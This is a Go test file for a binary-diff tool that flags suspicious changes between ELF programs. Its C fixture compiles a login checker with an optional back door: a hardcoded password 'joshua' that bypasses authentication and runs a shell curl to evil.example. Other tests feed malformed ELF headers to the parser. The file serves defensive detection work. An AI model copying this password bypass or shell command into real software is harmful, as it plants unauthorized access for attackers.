package executable

import (
	"bytes"
	"debug/elf"
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stagescope/stagescope/diff"
	"github.com/stagescope/stagescope/diff/internal/realtool"
)

// built compiles C with gcc, or skips the test.
func built(t testing.TB, source string, args ...string) []byte {
	t.Helper()
	return realtool.Compile(t, source, args...)
}

const loginC = `#include <stdio.h>
#include <string.h>
#include <stdlib.h>
static int same(const char *a, const char *b) { int i, d = 0; for (i = 0; a[i]; i++) d |= a[i] ^ b[i]; return d == 0; }
#ifdef DOOR
int __attribute__((noinline)) door(const char *p) { if (strcmp(p, "joshua") == 0) { system("/bin/sh -c 'curl http://evil.example/x'"); return 1; } return 0; }
#endif
int __attribute__((noinline)) check(const char *n, const char *p) {
#ifdef DOOR
	if (door(p)) return 1;
#endif
	if (strlen(p) != 6) return 0;
	return same(p, "secret") && strcmp(n, "root") == 0;
}
int main(int c, char **v) { if (c < 3) return 2; if (check(v[1], v[2])) { puts("welcome"); return 0; } puts("login incorrect"); return 1; }
`

// TestLinked compares two programs of gcc, of which one has a back door.
func TestLinked(t *testing.T) {
	n := compareFiles(t, built(t, loginC, "-O1"), built(t, loginC, "-O1", "-DDOOR"))
	code := child(t, n, ".text")
	if !said(code, diff.SuspectNewCode, "side B has a function that A has not: door", `"joshua"`, "call strcmp@import") {
		t.Errorf("the function is not said")
	}
	if !said(code, diff.SuspectNewCode, "in check", "only B calls door") {
		t.Errorf("its call is not said")
	}
	for _, s := range code.Suspicions {
		if strings.Contains(s.What, "main") {
			t.Errorf("what only moved is suspicious: %s", s.What)
		}
	}
	if s := child(t, n, ".dynsym"); !said(s, diff.SuspectImport, "system") || !slices.ContainsFunc(s.Suspicions, func(s diff.Suspicion) bool { return s.Telling && s.Kind == diff.SuspectImport }) {
		t.Errorf("the import is not said")
	}
	if s := child(t, n, ".rodata"); !said(s, diff.SuspectString, "an address on a network", "curl") {
		t.Errorf("the string is not said")
	}
	for _, name := range []string{"ELF header", "program headers", ".rela.dyn", ".init_array", ".dynamic"} {
		if c := child(t, n, name); c.Residue != diff.ResidueNone {
			t.Errorf("%s only follows from the rest, and its residue is %s", name, c.Residue)
		}
	}
	if t.Failed() {
		t.Log(sketch(n, ""))
	}
}

// TestObjects compares objects that are not linked, with their relocations.
func TestObjects(t *testing.T) {
	const c = "extern int f(int); int g(int a) { return f(a) + %s; } int h(void) { return g(7); }"
	n := compareFiles(t, built(t, fmt.Sprintf(c, "1"), "-O1", "-c"), built(t, fmt.Sprintf(c, "f(2)"), "-O1", "-c"))
	code := child(t, n, ".text")
	if !said(code, diff.SuspectNewCode, "in g") || !strings.Contains(sketch(n, ""), ".text+0x") {
		t.Fatal(sketch(n, ""))
	}
	if said(code, diff.SuspectNewCode, "in h") || said(code, diff.SuspectChangedCode, "in h") {
		t.Error("h only moved")
	}
	child(t, n, ".rela.text")
}

// TestGo compares two Go programs that differ in one constant.
func TestGo(t *testing.T) {
	build := func(v string, flags ...string) []byte {
		dir := t.TempDir()
		for name, s := range map[string]string{"go.mod": "module m\ngo 1.24\n", "main.go": "package main\nfunc main() { println(answer()) }\n//go:noinline\nfunc answer() int { return " + v + " }\n"} {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(s), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		cmd := exec.Command("go", append([]string{"build", "-o", "m", "-trimpath"}, flags...)...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOOS=linux", "GOARCH=amd64")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		p, err := os.ReadFile(filepath.Join(dir, "m"))
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	n := compareFiles(t, build("41"), build("42"))
	code := child(t, n, ".text")
	if len(code.Suspicions) != 1 || !said(code, diff.SuspectChangedCode, "main.answer", "0x29", "→", "0x2a") {
		t.Fatal(sketch(n, ""))
	}
	child(t, n, ".note.go.buildid")
}

// TestHostile: no file makes the format fail in another way than to say so.
func TestHostile(t *testing.T) {
	a := bareELF(t, login(false)...)
	set := func(off int, v any) []byte {
		out := bytes.Clone(a)
		copy(out[off:], le(v))
		return out
	}
	sections := func(n int, off, size uint64) []byte {
		out := set(40, uint64(len(a)))
		copy(out[58:], le(uint16(64), uint16(n), uint16(0)))
		for range n {
			out = append(out, le(uint32(0), uint32(elf.SHT_PROGBITS), uint64(elf.SHF_ALLOC|elf.SHF_EXECINSTR), uint64(0x1000), off, size, uint32(0), uint32(0), uint64(0), uint64(0))...)
		}
		return out
	}
	for name, b := range map[string][]byte{
		"segments outside":          set(32, uint64(1<<40)),
		"segments at the end":       set(32, uint64(1<<64-8)),
		"65,535 segments":           set(56, uint16(0xffff)),
		"segment of an exabyte":     set(64+32, uint64(1<<60)),
		"segment that wraps":        set(64+8, uint64(1<<64-16)),
		"sections outside":          set(40, uint64(1<<50)),
		"sections that overlap":     sections(5000, 0, uint64(len(a))),
		"sections that reach out":   sections(3, 1<<62, 1<<62),
		"sections at negative":      sections(3, 1<<63, 1<<63+5),
		"class":                     set(4, byte(7)),
		"byte order":                set(5, byte(9)),
		"big endian":                set(5, byte(2)),
		"32 bits":                   set(4, byte(1)),
		"machine":                   set(18, uint16(0x1234)),
		"cut in the header":         a[:40],
		"cut in the code":           a[:300],
		"entry nowhere":             set(24, uint64(1<<64-1)),
		"the magic number only":     a[:4],
		"memory of 2^64-1 bytes":    set(64+40, uint64(1<<64-1)),
		"address that wraps around": set(64+16, uint64(1<<64-8)),
	} {
		t.Run(name, func(t *testing.T) {
			for _, n := range []*diff.Node{compareFiles(t, a, b), compareFiles(t, b, a)} {
				if n.Status != diff.Differs {
					t.Errorf("it is %s", n.Status)
				}
				if n.Residue == diff.ResidueNone {
					t.Errorf("all of it is explained:\n%s", sketch(n, ""))
				}
			}
		})
	}
}

// TestCompressedSections opens debug information that gcc compressed.
func TestCompressedSections(t *testing.T) {
	one := strings.Replace(loginC, "welcome", "welcomf", 1)
	n := compareFiles(t, built(t, loginC, "-g", "-gz=zlib"), built(t, strings.Replace(one, "static int same", "static long same", 1), "-g", "-gz=zlib"))
	found := false
	for _, c := range n.Children {
		if strings.HasPrefix(c.Name, ".debug_") && c.Kind == KindCompressed && len(c.Children) == 1 {
			found = true
		}
	}
	if !found {
		t.Fatal(sketch(n, ""))
	}
}

func FuzzELF(f *testing.F) {
	a := bareELF(f, login(false)...)
	f.Add(a, bareELF(f, login(true)...))
	f.Add(a, a[:200])
	small := sectioned(binary.LittleEndian)
	f.Add(small, a)
	f.Add(small, bytes.Replace(small, []byte("libc.so.6"), []byte("libd.so.6"), 1))
	f.Fuzz(func(t *testing.T, a, b []byte) {
		if len(a)+len(b) > 1<<16 {
			return
		}
		x := diff.NewExaminer(diff.Options{Workers: 1, Limits: diff.Limits{Decoded: 1 << 20}})
		in := func(p []byte) *diff.Input {
			return &diff.Input{ReaderAt: bytes.NewReader(p), Name: "p", Size: int64(len(p))}
		}
		n, err := x.Pair(t.Context(), "", "p", in(a), in(b))
		if err != nil {
			t.Fatal(err)
		}
		if (n.Status == diff.Same) != bytes.Equal(a, b) {
			t.Fatalf("it is %s", n.Status)
		}
	})
}

// sectioned writes a small program with sections, symbols, a dynamic section,
// notes and relocations.
func sectioned(o binary.ByteOrder) []byte {
	type sec struct {
		name       string
		typ        elf.SectionType
		flags      elf.SectionFlag
		addr       uint64
		data       []byte
		link, info uint32
	}
	str := "\x00f\x00g\x00libc.so.6\x00puts\x00"
	sym := func(name uint32, info byte, shndx uint16, value, size uint64) []byte {
		return le(name, info, byte(0), shndx, value, size)
	}
	secs := []sec{
		{},
		{".text", elf.SHT_PROGBITS, elf.SHF_ALLOC | elf.SHF_EXECINSTR, 0x1000, []byte("\xe8\x05\x00\x00\x00\x55\xc3\x90\x90\x90\x48\x8d\x3d\x00\x10\x00\x00\xc3"), 0, 0},
		{".rodata", elf.SHT_PROGBITS, elf.SHF_ALLOC, 0x2000, []byte("hello, world\x00"), 0, 0},
		{".dynstr", elf.SHT_STRTAB, elf.SHF_ALLOC, 0x2100, []byte(str), 0, 0},
		{".dynsym", elf.SHT_DYNSYM, elf.SHF_ALLOC, 0x2200, bytes.Join([][]byte{sym(0, 0, 0, 0, 0), sym(1, 0x12, 1, 0x1000, 10), sym(3, 0x12, 1, 0x100a, 8), sym(15, 0x12, 0, 0, 0)}, nil), 3, 1},
		{".dynamic", elf.SHT_DYNAMIC, elf.SHF_ALLOC, 0x2300, le(uint64(1), uint64(5), uint64(5), uint64(0x2100), uint64(0), uint64(0)), 3, 0},
		{".rela.dyn", elf.SHT_RELA, elf.SHF_ALLOC, 0x2400, le(uint64(0x2500), uint64(8), uint64(0x1000), uint64(0x2508), uint64(3<<32|6), uint64(0)), 4, 0},
		{".init_array", elf.SHT_INIT_ARRAY, elf.SHF_ALLOC | elf.SHF_WRITE, 0x2500, le(uint64(0x1000), uint64(0)), 0, 0},
		{".note.gnu.build-id", elf.SHT_NOTE, elf.SHF_ALLOC, 0x2600, le(uint32(4), uint32(4), uint32(3), "GNU\x00", uint32(7)), 0, 0},
		{".comment", elf.SHT_PROGBITS, 0, 0, []byte("GCC: 1\x00"), 0, 0},
		{".shstrtab", elf.SHT_STRTAB, 0, 0, nil, 0, 0},
	}
	names := "\x00"
	offs := make([]uint32, len(secs))
	for i, s := range secs[1:] {
		offs[i+1] = uint32(len(names))
		names += s.name + "\x00"
	}
	secs[len(secs)-1].data = []byte(names)
	var body, table bytes.Buffer
	for i, s := range secs {
		off := uint64(64 + body.Len())
		body.Write(s.data)
		for body.Len()%8 != 0 {
			body.WriteByte(0)
		}
		table.Write(le(offs[i], uint32(s.typ), uint64(s.flags), s.addr, off, uint64(len(s.data)), s.link, s.info, uint64(8), uint64(0)))
	}
	head := le("\x7fELF\x02\x01\x01", make([]byte, 9), uint16(3), uint16(62), uint32(1), uint64(0x1000), uint64(0), uint64(64+body.Len()), uint32(0), uint16(64), uint16(56), uint16(0), uint16(64), uint16(len(secs)), uint16(len(secs)-1))
	return append(append(head, body.Bytes()...), table.Bytes()...)
}

// TestTables: what tables say is said by name.
func TestTables(t *testing.T) {
	a := sectioned(binary.LittleEndian)
	for _, tc := range []struct {
		old, new, part string
		kind           diff.SuspicionKind
		words          []string
	}{
		{"libc.so.6", "libd.so.6", ".dynstr", diff.SuspectImport, []string{"libd.so.6"}},
		{"puts", "exec", ".dynstr", diff.SuspectImport, []string{"exec"}},
		{"hello", "jello", ".rodata", diff.SuspectString, []string{"jello"}},
		{string(le(uint64(0x1000), uint64(0), uint32(4))), string(le(uint64(0x100a), uint64(0), uint32(4))), ".init_array", diff.SuspectStart, []string{"run before or after main"}},
		{string(le(uint64(0x1000), uint64(0))), string(le(uint64(0x1005), uint64(0))), "", diff.SuspectStart, []string{"starts at another place"}},
	} {
		t.Run(fmt.Sprintf("%.8q", tc.new), func(t *testing.T) {
			b := bytes.Replace(a, []byte(tc.old), []byte(tc.new), 1)
			if bytes.Equal(a, b) {
				t.Fatal("nothing to replace")
			}
			n := compareFiles(t, a, b)
			if tc.part != "" {
				n = child(t, n, tc.part)
			}
			if tc.kind != "" && !said(n, tc.kind, tc.words...) {
				t.Error(sketch(n, ""))
			}
		})
	}
}
